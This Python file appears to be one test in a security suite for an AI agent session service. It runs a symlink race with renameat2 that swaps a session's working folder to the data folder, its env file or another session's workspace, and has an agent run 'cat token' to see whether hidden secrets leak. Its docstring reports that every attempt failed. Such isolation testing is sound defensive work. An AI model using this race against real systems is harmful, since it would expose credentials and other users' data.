"""Swaps a session's folder for a symlink into the data folder while the session is made.

Tries: `cwd` flips between a folder and a symlink to the data folder, its `env`, or the workspace
of another session, some thousand times a second, while 5 s long sessions are made there.
Would prove: a look and a use of the same path apart from each other show an agent what is hidden.
Saw: each try was refused, failed to start, or saw the cover.
"""
import os
import subprocess
import sys
import time

CONTROL = "unconfined"


def attack(world):
    victim = world.session(title="victim")
    other = world.show(victim)["cwd"]
    with open(f"{other}/token", "w") as file:
        file.write("the victim's text")
    tries, found = 0, []
    for n, target in enumerate((world.data, world.data / "env", other)):
        real, link = world.work / f"real{n}", world.work / f"link{n}"
        real.mkdir()
        os.symlink(target, link)
        flips = subprocess.Popen([sys.executable, "-B", __file__, real, link])
        try:
            end = time.monotonic() + 3
            while time.monotonic() < end:
                tries += 1
                text = one(world, real)
                if world.token in text or "the victim's text" in text:
                    found.append(f"{target} was shown: {text[:100]}")
                    break
        finally:
            flips.kill()
            flips.wait()
    if not found and tries < 10:
        raise RuntimeError("too few tries to say anything")
    return found


def one(world, folder):
    """What a session there says, whether or not it could be made."""
    status, answer = world.api.post("/api/sessions", {
        "agent": "puppet", "cwd": str(folder), "prompt": f"run cat token {world.token_file}"})
    if status != 201:
        return ""
    session = answer["session"]["id"]
    try:
        world.ended(session, 10)
        return world.said(session)
    finally:
        world.api.call("DELETE", f"/api/sessions/{session}?confirm=true&force=true")


if __name__ == "__main__":
    import ctypes
    libc = ctypes.CDLL(None)
    while True:
        libc.renameat2(-100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)
